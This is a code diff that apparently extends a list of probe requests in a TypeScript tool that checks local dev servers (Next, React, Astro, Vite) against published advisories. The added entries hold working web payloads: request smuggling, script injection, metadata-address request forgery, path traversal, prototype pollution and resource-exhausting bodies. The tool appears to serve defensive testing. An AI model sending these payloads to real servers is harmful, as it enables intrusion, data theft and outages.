@@ -20,7 +20,10 @@ const upgrade = [
 const form = "Content-Type: application/x-www-form-urlencoded";
 const evil = "Origin: https://evil.example";
 
-/** Published from 2024-11 to 2026-10 for Vite, Astro, Next, esbuild, Parcel and webpack-dev-server. */
+/**
+ * Published from 2024-11 to 2026-10 for Vite, Astro, Next, esbuild, Parcel and webpack-dev-server. Those that no request carries,
+ * such as Astro CVE-2026-41067 and 2026-59729 (words that end a script or an attribute), are tried as content: `attacks/content`.
+ */
 export const advisories: readonly Advisory[] = [
   {
     name: "Vite CVE-2025-24010: any origin reads",
@@ -168,13 +171,55 @@ export const advisories: readonly Advisory[] = [
     body: '--a\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then"}\r\n--a--\r\n',
   },
   {
+    name: "React CVE-2025-55183: the source of a function",
+    method: "POST",
+    targets: ["/"],
+    head: ["Next-Action: x", "Content-Type: text/plain", evil],
+    body: '["$F1",{"id":"x","bound":null}]',
+  },
+  {
+    name: "React CVE-2025-55184, 67779, 2026-23864, 23869 and 23870: a body that never ends to be read",
+    method: "POST",
+    targets: ["/"],
+    head: ["Next-Action: x", "Content-Type: multipart/form-data; boundary=a", evil],
+    body: `--a\r\nContent-Disposition: form-data; name="0"\r\n\r\n${'["$Q0","$W0",'.repeat(5000)}"$@0"\r\n--a--\r\n`,
+  },
+  {
+    name: "Next CVE-2025-59471 and 2026-44577: pictures as large as one likes",
+    targets: ["/_next/image?url=http://169.254.169.254/large&w=3840&q=100", "/_next/image?url=/secret.txt&w=1&q=1"],
+  },
+  {
+    name: "Next CVE-2025-59472 and 2026-27979: a page that is resumed by a long body",
+    method: "POST",
+    targets: ["/"],
+    head: ["next-resume: 1", "Content-Length: 1000000000"],
+  },
+  {
     name: "Next CVE-2026-27977: the origin null",
     targets: ["/__dev/events", "/_next/webpack-hmr"],
     head: ["Origin: null", ...upgrade],
   },
+  {
+    name: "Next CVE-2026-27978: an action of the origin null",
+    method: "POST",
+    targets: ["/", "/__edit/save", "/__edit/start", "/__mail/empty", "/api/v1.0/email/send"],
+    head: ["Origin: null", "Next-Action: 0", "Content-Type: application/json"],
+    body: '{"user_id":"u","service_id":"s","template_id":"t"}',
+  },
+  {
+    name: "Next CVE-2026-27980: one picture in any number of sizes",
+    targets: Array.from({ length: 30 }, (_, at) => `/_next/image?url=/a.png&w=${at}&q=${at}`),
+  },
+  {
+    name: "Next CVE-2026-29057: a request within the body of another",
+    method: "DELETE",
+    targets: ["/", "/nulle-part"],
+    head: ["Transfer-Encoding: chunked"],
+    body: "0\r\n\r\nGET /secret.txt HTTP/1.1\r\nHost: localhost\r\n\r\n",
+  },
   { name: "Next CVE-2026-44572: x-nextjs-data", targets: ["/", "//"], head: ["x-nextjs-data: 1"] },
   {
-    name: "Next CVE-2026-44573, 44574 and 44575: other ways to one page",
+    name: "Next CVE-2026-44573, 44574, 44575 and 45109: other ways to one page",
     targets: [
       "/_next/data/x/secret.txt.json",
       "/secret.txt.rsc",
@@ -186,6 +231,60 @@ export const advisories: readonly Advisory[] = [
     name: "Next CVE-2026-44578: a socket to elsewhere",
     targets: ["http://169.254.169.254/", "//169.254.169.254/", "/"],
     head: upgrade,
+  },
+  {
+    name: "Next CVE-2026-44576 and 44582: what is kept of one answer is given for another",
+    targets: ["/?_rsc=1", "/?_rsc=x"],
+    head: ["RSC: 1", "Next-Router-Prefetch: 1", "Next-Router-State-Tree: %5B%22%22%5D", "Next-Url: //evil.example/"],
+  },
+  {
+    name: "Next CVE-2026-44579: an action that keeps its connection",
+    method: "POST",
+    targets: ["/"],
+    head: ["Next-Action: 0", "next-resume: 1", "Transfer-Encoding: chunked"],
+    body: "5\r\nhello\r\n",
+  },
+  {
+    name: "Next CVE-2026-44580 and 44581: markup of the request in a script or its nonce",
+    targets: ["/?a=</script><script>alert(1)</script>", "/nulle-part?<script>alert(1)</script>"],
+    head: ["Content-Security-Policy: script-src 'nonce-\"><script>alert(1)</script>'"],
+  },
+  {
+    name: "Next GHSA-p9j2-gv94-2wf4 and GHSA-89xv-2m56-2m9x: rewrites and actions that ask elsewhere",
+    method: "POST",
+    targets: ["/", "/@169.254.169.254/", "/%2f%2f169.254.169.254/"],
+    head: ["Next-Action: 0", "X-Forwarded-Host: 169.254.169.254", "X-Forwarded-Proto: http", "Content-Type: text/plain", evil],
+    body: "[]",
+  },
+  {
+    name: "Next GHSA-q8wf-6r8g-63ch and GHSA-2xp9-vwfh-vxw4, Astro GHSA-26w7-cxv4-gfx2: pictures that harm what reads them",
+    targets: [
+      "/_next/image?url=http://169.254.169.254/a.svg&w=640&q=75",
+      "/_next/image?url=/secret.txt&w=640&q=75&format=avif",
+      "/_image?href=http://169.254.169.254/a.avif&f=avif",
+    ],
+  },
+  {
+    name: "Next GHSA-955p-x3mx-jcvp, GHSA-m99w-x7hq-7vfj and GHSA-4c39-4ccg-62r3: actions that are listed, and long to read",
+    method: "POST",
+    targets: ["/", "/_next/static/server-reference-manifest.json"],
+    head: ["Next-Action: 0000", "Content-Type: multipart/form-data; boundary=a", evil],
+    body: `${'--a\r\nContent-Disposition: form-data; name="1_$ACTION_REF_1"\r\n\r\n$K1\r\n'.repeat(2000)}--a--\r\n`,
+  },
+  {
+    name: "Next GHSA-68g3-v927-f742 and GHSA-4633-3j49-mh5q: bodies that look alike",
+    method: "POST",
+    targets: ["/"],
+    head: ["Content-Type: text/plain; charset=utf-8", evil],
+    body: "\u00ff\u00fe\u00c3(",
+  },
+  {
+    name: "Next GHSA-6gpp-xcg3-4w24: a language before a path",
+    targets: ["/fr/secret.txt", "/en/../secret.txt", "/_next/data/x/fr/secret.txt.json"],
+  },
+  {
+    name: "Next GHSA-vcvr-r3jv-pc5j: pictures drawn from a request",
+    targets: ["/opengraph-image?title=<script>alert(1)</script>", "/api/og?font=file://{place}"],
   },
   {
     name: "Astro CVE-2024-56140: forms of any page, of no type",
@@ -266,6 +365,25 @@ export const advisories: readonly Advisory[] = [
     targets: ["/_image?href=http://169.254.169.254/&inferSize=true"],
   },
   {
+    name: "Astro CVE-2026-27729: a long body for an action",
+    method: "POST",
+    targets: ["/_actions/a"],
+    head: ["Content-Type: application/json", "Content-Length: 1000000000"],
+  },
+  {
+    name: "Astro CVE-2026-33768: a header or a parameter that names another page",
+    targets: ["/?x_astro_path=/secret.txt", "/nulle-part?x_astro_path=//evil.example/"],
+    head: ["x-astro-path: /secret.txt"],
+  },
+  {
+    name: "Astro CVE-2026-33769: pictures from below an allowed path",
+    targets: ["/_image?href=http://169.254.169.254/ok/../secret.txt&f=svg"],
+  },
+  {
+    name: "Astro CVE-2026-45028: what was sealed for one part of an island as another",
+    targets: ["/_server-islands/a?e=default&p=AAAA&s=AAAA"],
+  },
+  {
     name: "Astro CVE-2026-29772: a long body for an island",
     method: "POST",
     targets: ["/_server-islands/a"],
@@ -277,7 +395,8 @@ export const advisories: readonly Advisory[] = [
 /** The request of an advisory as it goes over the line. */
 export function writeRequest(advisory: Advisory, target: string, place: string): string {
   const { method = "GET", head = [], host = "localhost", body = "" } = advisory;
-  const length = body === "" ? [] : [`Content-Length: ${Buffer.byteLength(body)}`];
+  const isFramed = head.some((line) => /^(?:Content-Length|Transfer-Encoding):/.test(line));
+  const length = body === "" || isFramed ? [] : [`Content-Length: ${Buffer.byteLength(body, "latin1")}`];
   const closing = head.some((line) => line.startsWith("Connection:")) ? [] : ["Connection: close"];
   const lines = [
     `${method} ${target.replace("{place}", place)} HTTP/1.1`,
